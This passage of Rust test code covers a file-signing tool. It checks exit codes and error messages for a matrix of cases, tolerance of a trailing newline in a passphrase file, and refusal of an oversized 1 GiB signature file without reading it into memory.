    let keys_before = r.prefix.as_ref().map(|p| ctx.aws.keys(BUCKET, &format!("{p}/"))).unwrap_or_default();
    let res = run(work.path(), &r);
    let lines = stderr_lines(&res);
    let mut bad = Vec::new();
    let decision = match &case.expect {
        Fails(code, says) => {
            if res.status.code() != Some(*code) {
                bad.push(format!("exit {:?}, want {code}", res.status.code()));
            }
            let prefix = format!("{}: error: ", r.program);
            if lines.len() != 1 || !lines[0].contains(says) || !lines[0].starts_with(&prefix) {
                bad.push(format!("stderr {lines:?}, want one line saying {says:?}"));
            }
            bad.extend(clean_after_failure(ctx, work.path(), &r, before, &keys_before));
            format!("exit {code}  {}", lines.first().map(String::as_str).unwrap_or(""))
        }
        Works(why, check) => {
            if !res.status.success() {
                bad.push(format!("exit {:?}: {lines:?}", res.status.code()));
            } else if let Err(e) = check(ctx, work.path(), &res) {
                bad.push(e);
            }
            format!("works: {why}")
        }
    };
    assert!(bad.is_empty(), "{}: {}", case.name, bad.join("; "));
    eprintln!("{}: {decision}", case.name);
}

#[test]
fn the_matrix_has_its_rows() {
    assert!(ROWS.len() >= 60, "the matrix has {} rows", ROWS.len());
}

#[test]
fn a_trailing_newline_in_the_passphrase_file_is_tolerated() {
    let work = tempfile::tempdir().unwrap();
    sample_tree(&dist(work.path()));
    let mut pass = PASS.to_vec();
    pass.push(b'\n');
    let r = with_key(work.path(), &keys().rsa4096, Some(&pass));
    let res = run(work.path(), &r);
    assert!(res.status.success(), "{:?}", stderr_lines(&res));
}

#[test]
fn a_1_gib_signature_file_is_refused_unread() {
    let work = tempfile::tempdir().unwrap();
    sample_tree(&dist(work.path()));
    let r = verify(work.path(), &s(&keys().ed25519.public));
    std::fs::File::create(out(work.path()).join("agent v1.0.tar.asc")).unwrap().set_len(1 << 30).unwrap();
    let (res, peak_kib) = run_measured(
        TestCommand::signer().args(&r.args).command().stdout(Stdio::null()).stderr(Stdio::null()),
    );
    assert_eq!(res.code(), Some(1));
    assert!(peak_kib < 200 << 10, "signer read the 1 GiB signature: peak RSS {peak_kib} KiB");
    let res = TestCommand::signer().args(&r.args).output();
    assert!(stdout(&res).contains("agent v1.0.tar: cannot read"), "{}", stdout(&res));
    assert!(stdout(&res).contains("larger than 1 MiB"), "{}", stdout(&res));
}
